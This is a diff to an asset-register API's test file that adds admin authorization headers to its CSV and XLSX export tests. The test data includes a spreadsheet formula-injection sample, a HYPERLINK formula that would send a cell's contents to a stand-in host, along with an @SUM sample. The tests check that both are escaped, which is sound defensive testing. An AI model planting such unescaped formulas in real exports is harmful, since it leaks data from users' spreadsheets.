@@ -62,7 +62,7 @@ describe.each(ENGINES)('imports and exports over HTTP ($name)', (engine) => {
   });
 
   it('exports the filtered register to CSV and XLSX with formula cells escaped', async () => {
-    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-' });
+    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
     expect(csv.statusCode).toBe(200);
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="custodia-assets-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -70,7 +70,7 @@ describe.each(ENGINES)('imports and exports over HTTP ($name)', (engine) => {
     expect(records.map((r) => [r['Asset tag'], r['Notes'], r['Purchase cost']])).toEqual([
       ['HTTP-1', `'=HYPERLINK("http://x/?"&A1)`, '1499.90'], ['HTTP-2', "'@SUM(1+1)", '980.00'],
     ]);
-    const xlsx = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?format=xlsx&q=HTTP-' });
+    const xlsx = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?format=xlsx&q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(xlsx.rawPayload as never);
     const sheet = book.worksheets[0]!;
@@ -82,7 +82,7 @@ describe.each(ENGINES)('imports and exports over HTTP ($name)', (engine) => {
   });
 
   it('imports what it exported without changing anything', async () => {
-    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-' });
+    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
     const before = await snapshotCounts(api.db);
     const res = await upload(api, 'assets', csv.body, '?mode=upsert');
     expect(res.body, JSON.stringify(res.body).slice(0, 600)).toMatchObject({ applied: true, created: 0, updated: 0 });
